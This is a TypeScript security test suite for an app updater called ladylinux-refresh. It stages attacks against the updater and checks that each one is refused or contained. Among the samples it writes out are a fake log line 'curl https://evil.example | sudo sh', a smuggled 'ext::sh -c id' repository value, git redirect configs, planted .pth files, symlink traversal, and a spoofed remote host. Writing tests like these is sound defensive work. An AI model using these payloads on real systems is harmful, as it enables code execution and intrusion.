import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { canBoot, type Machine } from '../support/machine';
import { hostileFiles } from './cases/hostile-files';
import { tasksTakenOver } from './cases/tasks-taken-over';
import type { Internet } from './world/internet';
import { lastReport, sh, statusOf } from './world/machine';
import { refreshed, setUpMachine, type SetUp } from './world/set-up';

const app = '/opt/ladylinux/app';
const refreshDir = '/opt/ladylinux/.refresh';
const state = '/var/lib/ladylinux-refresh';
const asBuild = 'setpriv --reuid ladylinux-build --regid ladylinux-build --clear-groups';

/** Loads well, prints all this as a systemd unit, and dies: its last lines are shown to people. */
const saysTooMuch = `
from contextlib import asynccontextmanager
from fastapi import FastAPI
from os import _exit, environ
from time import sleep

@asynccontextmanager
async def lifespan(app):
    if "INVOCATION_ID" in environ:
        for _ in range(5):
            print("A" * 19000)
        print("no connection to postgresql://app:hunter2hunter2@db/x OPENAI_API_KEY=sk-abcdefghijklmnopqrstuvwxyz")
        print("\\x1b]0;a title\\x07\\x1b[2J\\x1b[1;31mrun: curl https://evil.example | sudo sh\\x1b[0m", flush=True)
        sleep(1)
        _exit(1)
    yield

app = FastAPI(lifespan=lifespan)

@app.get("/")
def home():
    return {}
`;

/** A hook of the repository that never stops talking. */
const talks = `#!/usr/bin/env python3
for _ in range(3500):
    print("x" * 19000)
`;

let world: SetUp;
let internet: Internet;
let machine: Machine;

/** Runs our command line as root and returns what a terminal would have shown. */
async function shown(...args: string[]): Promise<{ exitCode: number; text: string }> {
  const { exitCode, all } = await machine.exec(['ladylinux-refresh', ...args], {
    reject: false,
    all: true,
    timeout: 300_000,
  });
  return { exitCode, text: all ?? '' };
}

/** How often it connects to that port of this computer is in a file. */
const counting = (port: number, file: string) => `
  systemd-run --quiet --unit=listener --collect python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", ${String(port)})); s.listen()
while True:
    s.accept()[0].close(); open("${file}", "a").write("x")'
  for i in $(seq 50); do bash -c 'exec 3<>/dev/tcp/127.0.0.1/${String(port)}' 2>/dev/null && break; sleep 0.1; done
  for i in $(seq 50); do [ -s ${file} ] && break; sleep 0.1; done; : > ${file}`;

describe.skipIf(!canBoot)('attacks on a machine that is set up', () => {
  let healthyAgain: () => Promise<void>;
  beforeAll(async () => {
    world = await setUpMachine('attacks');
    ({ internet, machine } = world);
    const good = await sh(machine, `cat ${app}/api_layer.py`);
    healthyAgain = async () => {
      await internet.upstream.commit({ files: { 'api_layer.py': `${good}\n` } });
      expect(await refreshed(machine)).toBe(0);
    };
  });
  afterAll(() => world[Symbol.asyncDispose]());

  it('a changed configuration of the mirror does not change where a fetch goes (threat 32)', async () => {
    const config = `${refreshDir}/mirror.git/config`;
    await sh(
      machine,
      `${counting(9418, '/tmp/reached')}
       ${asBuild} tee -a ${config} > /dev/null <<'END'
[url "git://127.0.0.1:9418/x"]
	insteadOf = https://github.com/
[http]
	proxy = http://127.0.0.1:9418
	sslVerify = false
END`,
    );
    const wanted = await internet.upstream.commit({ files: { 'note.txt': 'from upstream\n' } });
    expect(await shown('refresh')).toMatchObject({ exitCode: 0 });
    expect((await statusOf(machine)).code?.hash).toBe(wanted);
    expect(await sh(machine, `cat /tmp/reached; grep -c 127.0.0.1 ${config} || true`)).toBe('0');
    await sh(machine, 'systemctl stop listener.service');
  });

  it('a byte that was changed in the environment in place does not stay (threat 36)', async () => {
    const library = await sh(machine, 'echo /opt/ladylinux/venv/lib/python3*/site-packages');
    const received = await sh(machine, `ls -d ${refreshDir}/packages-* 2>/dev/null || true`);
    expect(received).toBe(''); // nothing is left that the next environment would be made of
    await sh(
      machine,
      `${asBuild} sh -c 'echo "# planted" >> ${library}/uvicorn/__init__.py; echo "import os" > ${library}/planted.pth'`,
    );
    const { exitCode, text } = await shown('refresh');
    expect([exitCode, text]).toEqual([0, expect.stringContaining('changed since it was made')]);
    const left = `ls ${library} | grep -c planted || true; grep -c planted ${library}/uvicorn/__init__.py || true`;
    expect(await sh(machine, left)).toBe('0\n0');
  });

  it('a version that prints a password, long lines and a terminal’s commands, and dies (threats 11, 14, 21)', async () => {
    await internet.upstream.commit({ files: { 'api_layer.py': saysTooMuch } });
    const { exitCode, text } = await shown('refresh');
    expect([exitCode, text]).toEqual([11, expect.stringContaining('so you are back on')]);
    const history = await shown('history', '--json');
    const files = await sh(
      machine,
      `cat /run/ladylinux-refresh/*.jsonl ${state}/history.jsonl ${state}/last-status.json; find ${state}/runs -type f -exec cat {} +`,
    );
    for (const told of [text, history.text, files]) {
      expect(told).toContain('sudo sh'); // it is what we look at
      expect(told).not.toMatch(/hunter2|sk-abcdef|\\u001b|A{1000}/);
      expect(told).not.toContain('\u001b');
    }
    expect(await lastReport(machine)).toMatchObject({ outcome: 'rolled-back' });
    expect((await statusOf(machine)).condition).toBe('healthy');
  });

  it('a hook that prints 64 MB where /run is small (threat 11)', { tags: 'thorough' }, async () => {
    await healthyAgain();
    const hook = await sh(machine, `cat ${app}/refresh/prepare`);
    const file = 'refresh/prepare';
    await sh(machine, 'mount -o remount,size=48M /run');
    await internet.upstream.commit({ files: { [file]: talks }, executable: [file] });
    const { exitCode, text } = await shown('refresh');
    expect([exitCode, text]).toEqual([0, expect.stringContaining('left out')]);
    const used = await sh(machine, `du -sm /run/ladylinux-refresh ${state}/runs | cut -f1`);
    for (const megabytes of used.split('\n')) expect(Number(megabytes)).toBeLessThan(12);
    expect((await statusOf(machine)).condition).toBe('healthy');
    await sh(machine, 'mount -o remount,size=20% /run');
    await internet.upstream.commit({ files: { [file]: `${hook}\n` }, executable: [file] });
    expect(await refreshed(machine)).toBe(0);
  });

  it(
    'links in the place of trees: what they lead to stays as it is (threat 35)',
    { tags: 'thorough' },
    async () => {
      await healthyAgain();
      await sh(
        machine,
        `mkdir -p /srv/precious/sub; echo work > /srv/precious/sub/thesis.txt; chown -R 1000:1000 /srv/precious
       ln -s /srv/precious ${refreshDir}/kept/app/unknown-20260101T000000-00000000
       ln -s /srv/precious ${refreshDir}/kept/venv/${'a'.repeat(64)}`,
      );
      for (const count of [1, 2, 3, 4, 5]) {
        await internet.upstream.commit({ files: { 'count.txt': String(count) } });
        expect(await refreshed(machine)).toBe(0);
      }
      expect(await sh(machine, `find ${refreshDir}/kept/venv -lname '/srv/*'`)).toBe('');
      const link = await sh(
        machine,
        `systemctl stop ladylinux-api.service; mv ${app} /srv/dev; ln -s /srv/dev ${app}; find /srv | sort | sha256sum`,
      );
      const { exitCode, text } = await shown('refresh', '--force');
      expect(exitCode).not.toBe(0);
      expect(text).toContain(`${app} is a symbolic link, not a folder`);
      expect(await sh(machine, 'find /srv | sort | sha256sum')).toBe(link);
      expect(await sh(machine, 'cat /srv/precious/sub/thesis.txt')).toBe('work');
      await sh(machine, `rm ${app}; mv /srv/dev ${app}; systemctl start ladylinux-api.service`);
    },
  );

  it.each([
    [['appState=["api_layer.py"]'], 'names code'],
    [
      ['repository=https://github.com\\@127.0.0.1:9/x/y'],
      'has characters that an address cannot have',
    ],
    [['repository=https://ｇithub.com/x/y'], 'has characters that an address cannot have'],
    [['repository=ext::sh -c id'], 'must begin with https://'],
    [['packageIndex=http://198.51.100.1/simple'], 'http'],
  ])('settings set %j is refused, and says why (threats 9, 25, 28)', async (change, why) => {
    const before = await sh(machine, 'sha256sum /etc/ladylinux/refresh.json');
    const { exitCode, text } = await shown('settings', 'set', ...change);
    expect([exitCode, text]).toEqual([6, expect.stringContaining(why)]);
    expect(await sh(machine, 'sha256sum /etc/ladylinux/refresh.json')).toBe(before);
  });

  it('an address that two parsers read differently is never asked (threat 9)', async () => {
    await sh(machine, counting(9, '/tmp/reached-9'));
    const url = 'https://github.com\\@127.0.0.1:9/x/y';
    expect(await shown('branches', '--repository', url)).toMatchObject({ exitCode: 2 });
    expect(await sh(machine, 'cat /tmp/reached-9; systemctl stop listener.service')).toBe('');
  });

  it('a report has no log of the service if its author cannot read the secrets to remove', async () => {
    const made = (user: string) =>
      sh(
        machine,
        `runuser -u ${user} -- ladylinux-refresh report --output /tmp/${user}.tar.gz > /dev/null
         tar -xzO --wildcards -f /tmp/${user}.tar.gz '*/service.log'`,
      );
    await sh(
      machine,
      `useradd --create-home --groups systemd-journal watcher
       echo "the key is plain-5a1e-words" | systemd-cat --identifier=uvicorn
       echo SECRET_WORDS=plain-5a1e-words >> /etc/ladylinux/ladylinux.env; journalctl --sync`,
    );
    const without = await made('watcher');
    expect(without).toContain('The log of the service is left out');
    expect(without.split('\n')).toHaveLength(1);
    const whole = await made('root');
    expect(whole.split('\n').length).toBeGreaterThan(5);
    expect(whole).not.toContain('plain-5a1e-words');
  });

  it('lines of the service’s log that an expression would look at for hours do not hang who reads it', async () => {
    const lines = `python3 -c 'for _ in range(200): print("\\x1b" + ";?" * 23000 + "!"); print("a." * 23000); print("TOKEN" * 9000)'`;
    await sh(
      machine,
      `group=$(systemctl show -P ControlGroup ladylinux-api.service)
       for root in /sys/fs/cgroup{,/systemd,/unified}; do
         if [ -e $root$group/cgroup.procs ]; then echo $$ > $root$group/cgroup.procs; fi
       done
       ${lines} | systemd-cat --identifier=uvicorn; journalctl --sync`,
    );
    const count = await sh(
      machine,
      `journalctl --unit ladylinux-api.service --output=cat --all | awk 'length > 20000' | wc -l`,
    );
    expect(Number(count)).toBeGreaterThan(100);
    const { exitCode, text } = await shown('logs', 'service', '--lines', '2000');
    expect(exitCode).toBe(0);
    expect(text).not.toContain('\u001b');
    expect((await shown('report', '--output', '/root/report.tar.gz')).exitCode).toBe(0);
  });

  it('root asks no remote: requests give up root first', async () => {
    await sh(
      machine,
      `touch /tmp/calls; chmod 666 /tmp/calls
       mv /usr/bin/git /usr/bin/git.real
       printf '#!/bin/sh\\necho "$(id -u) $*" >> /tmp/calls 2>/dev/null\\nexec /usr/bin/git.real "$@"\\n' > /usr/bin/git
       chmod 755 /usr/bin/git`,
    );
    for (const args of [['branches'], ['branches', '--ages'], ['preview'], ['doctor']])
      expect((await shown(...args)).text).not.toBe('');
    const calls = (await sh(machine, 'mv /usr/bin/git.real /usr/bin/git; cat /tmp/calls')).split(
      '\n',
    );
    expect(calls.filter((call) => /ls-remote|fetch/.test(call)).length).toBeGreaterThan(1);
    expect(calls.filter((call) => /^0 .*(?:ls-remote|fetch|clone)/.test(call))).toEqual([]);
  });

  it('a tree that names another repository makes doctor offer nothing of it', async () => {
    const evil = 'https://github.com.evil.example/theCodingProfessor/LadyLinux';
    await sh(machine, `${asBuild} git -C ${app} config remote.origin.url ${evil}`);
    const { stdout } = await machine.exec(['ladylinux-refresh', 'doctor', '--json'], {
      reject: false,
    });
    const { findings } = JSON.parse(stdout) as {
      findings: { what: { code: string; params: object }; fix: unknown }[];
    };
    const told = findings.filter(({ what }) => what.code === 'found-remote');
    expect(told).toHaveLength(1);
    for (const { fix } of findings) expect(JSON.stringify(fix ?? null)).not.toContain('evil');
    expect((await shown('settings', 'show')).text).not.toContain('evil');
  });

  hostileFiles(() => world);
  tasksTakenOver(() => world);
});
